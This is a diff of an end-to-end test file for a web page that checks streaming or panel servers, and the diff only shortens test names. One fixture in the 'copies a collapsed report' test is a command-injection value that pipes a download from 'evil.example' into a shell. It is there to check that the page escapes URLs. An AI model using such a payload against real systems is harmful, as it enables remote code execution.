@@ -28,7 +28,7 @@ describe('the check page', () => {
 
   const CHECK = () => `${panel.url}/check/`;
 
-  it('accepts an address without a scheme, and reports why tags can’t use a given address', async () => {
+  it('accepts an address without a scheme', async () => {
     await page.goto(CHECK());
     await page.getByLabel('Address of your panel or server').fill(website.host);
     await page.keyboard.press('Enter');
@@ -43,7 +43,7 @@ describe('the check page', () => {
       .waitFor();
   });
 
-  it('links a successful result to the builder, which links back', async () => {
+  it('links a successful result to the builder', async () => {
     await page.goto(`${CHECK()}?panel=${panel.url}&site=http`);
     assert.equal(await untilChecked(page), `No problems at ${panel.url}.`);
     await page.getByRole('link', { name: 'Get the code for your site' }).click();
@@ -58,7 +58,7 @@ describe('the check page', () => {
     assert.equal(await page.getByRole('link', { name: 'Get the code for your site' }).count(), 0);
   });
 
-  it('detects other kinds of server, including those that allow only JSONP', async () => {
+  it('detects other kinds of server', async () => {
     for (const [starting, kind, cors] of [
       [startIcecast(), 'Icecast', 'OK This page can read the server’s responses.'],
       [startShoutcast(), 'Shoutcast', 'Note Pages on other sites can’t fetch the server’s responses'],
@@ -81,7 +81,7 @@ describe('the check page', () => {
     }
   });
 
-  it('detects the JSON of a script that responds to every path, and links to the builder', async () => {
+  it('detects JSON that is served at every path', async () => {
     const headers = { 'Content-Type': 'application/json', 'Access-Control-Allow-Origin': '*' };
     const body = JSON.stringify({ current: { song: 'Glass', artist: 'Ada Winter' } });
     const server = await listen(() => ({ headers, body }));
@@ -104,7 +104,7 @@ describe('the check page', () => {
     }
   });
 
-  it('copies the report while it is collapsed, and escapes the URL in the command', async () => {
+  it('copies a collapsed report', async () => {
     const sent = "https://x/;curl$IFS'evil.example'|sh";
     await page.goto(`${CHECK()}?panel=${encodeURIComponent(sent)}`);
     await untilChecked(page);
@@ -117,7 +117,7 @@ describe('the check page', () => {
     await copied;
   });
 
-  it("loads the visitor's language, and another language when the visitor chooses it", async () => {
+  it('loads the chosen language', async () => {
     const french = await browser.newPage({ locale: 'fr-CA' });
     const requested: string[] = [];
     french.on('request', (request) => requested.push(new URL(request.url()).pathname));
@@ -142,7 +142,7 @@ describe('the check page', () => {
     await french.close();
   });
 
-  it('is laid out right to left in Arabic, except for URLs and copied text, even on the narrowest screen', async () => {
+  it('is laid out right to left in Arabic', async () => {
     const arabic = await browser.newPage({ viewport: { width: 280, height: 800 } });
     await arabic.goto(`${CHECK()}?panel=${panel.url}&lang=ar`);
     assert.match(await untilChecked(arabic), /المحتوى المختلط\.$/);
@@ -157,7 +157,7 @@ describe('the check page', () => {
     await arabic.close();
   });
 
-  it('falls back to English with a message if the host lacks the language files', async () => {
+  it('falls back to English without language files', async () => {
     const copy = await browser.newPage({ locale: 'ru-RU' });
     await copy.route('**/parts/*', (route) => route.fulfill({ status: 404 }));
     await copy.goto(CHECK());
@@ -167,7 +167,7 @@ describe('the check page', () => {
     await copy.close();
   });
 
-  it('lists the existing servers if the server number is unknown', async () => {
+  it('lists the servers for an unknown server number', async () => {
     await page.goto(`${CHECK()}?panel=${panel.url}&server=99`);
     await untilChecked(page);
     await page.getByRole('link', { name: /^2 / }).click();
